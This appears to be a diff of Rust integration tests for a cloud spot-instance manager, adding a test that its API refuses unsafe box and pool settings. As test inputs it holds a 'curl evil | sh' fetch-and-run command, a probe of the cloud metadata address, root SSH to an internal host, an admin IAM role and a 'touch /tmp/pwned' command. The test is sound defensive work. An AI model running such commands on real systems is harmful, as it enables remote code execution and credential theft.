@@ -263,10 +263,13 @@ async fn the_token_comes_from_config_env_or_a_0600_file_made_on_first_start() {
     );
     let again = spotkeeper_engine::api::load_or_make_token(&w.config, None, &file).expect("read");
     assert_eq!(again, made, "stable across restarts");
-    let from_env =
-        spotkeeper_engine::api::load_or_make_token(&w.config, Some("env-token".into()), &file)
-            .expect("env");
-    assert_eq!(from_env.expose(), "env-token");
+    let from_env = spotkeeper_engine::api::load_or_make_token(
+        &w.config,
+        Some("env-token-0123456789".into()),
+        &file,
+    )
+    .expect("env");
+    assert_eq!(from_env.expose(), "env-token-0123456789");
     assert_eq!(format!("{made:?}"), "Secret(***)", "never in Debug");
 }
 
@@ -520,5 +523,95 @@ async fn pools_are_registered_updated_scaled_by_the_daemon_and_deleted_with_thei
     assert!(
         text.contains("spotkeeper_pool_launches_total{pool=\"builders\",kind=\"spot\"} 3"),
         "{text}"
+    );
+}
+
+#[tokio::test]
+async fn the_api_token_is_not_a_shell_commands_hosts_ssh_and_foreign_roles_are_refused() {
+    let w = world().await;
+    let post = |uri: &'static str, body: Value| {
+        let w = &w;
+        async move {
+            w.call("POST", uri, Some(TOKEN), Some(body.to_string()))
+                .await
+        }
+    };
+    for (patch, field) in [
+        (
+            json!({ "ready": { "check": "command", "command": "curl evil | sh" } }),
+            "ready.check",
+        ),
+        (
+            json!({ "ready": { "check": "tcp", "port": 22, "host": "169.254.169.254" } }),
+            "ready.host",
+        ),
+        (
+            json!({ "ssh": { "user": "root", "host": "10.0.0.1" } }),
+            "ssh",
+        ),
+        (
+            json!({ "iam_instance_profile": "admin" }),
+            "iam_instance_profile",
+        ),
+    ] {
+        let mut body = good_box();
+        for (k, v) in patch.as_object().expect("object") {
+            body[k] = v.clone();
+        }
+        let (s, b) = post("/api/boxes", body).await;
+        assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{field}: {b}");
+        assert!(
+            b["error"].as_str().expect("error").starts_with(field),
+            "{field}: {b}"
+        );
+    }
+    let mut pool = good_pool();
+    pool["iam_instance_profile"] = json!("admin");
+    let (s, b) = post("/api/pools", pool).await;
+    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{b}");
+    assert!(
+        w.store
+            .managed_boxes("tester")
+            .await
+            .expect("boxes")
+            .is_empty()
+    );
+
+    // The operator opts in: commands and the listed profile are accepted.
+    let text =
+        "owner = \"tester\"\n[api]\nallow_commands = true\ninstance_profiles = [\"box-role\"]\n";
+    let open = World {
+        config: Arc::new(config::parse(Path::new("t.toml"), text).expect("valid")),
+        ..world().await
+    };
+    let mut body = good_box();
+    body["ready"] = json!({ "check": "command", "command": "true" });
+    body["iam_instance_profile"] = json!("box-role");
+    let (s, b) = open
+        .call("POST", "/api/boxes", Some(TOKEN), Some(body.to_string()))
+        .await;
+    assert_eq!(s, StatusCode::CREATED, "{b}");
+
+    // A box stored with a command (registered when it was allowed) is not
+    // run by a daemon whose config does not allow it.
+    let daemon = Daemon::new(w.cloud.as_ref(), &w.store, &w.config, w.locks.path());
+    let mut stored = good_box();
+    stored["ready"] = json!({ "check": "command", "command": "touch /tmp/pwned" });
+    w.store
+        .register_box("tester", "web", "api", Some(&stored.to_string()))
+        .await
+        .expect("stored");
+    assert!(daemon.reconcile().await.expect("pass").is_empty());
+    assert_eq!(w.cloud.count("RunInstances"), 0);
+    let events = w
+        .store
+        .events("tester", Some("web"), 10)
+        .await
+        .expect("events");
+    assert!(
+        events
+            .iter()
+            .any(|e| e.kind == "bad-box" && e.message.contains("ready.check")),
+        "{events:?}"
     );
 }
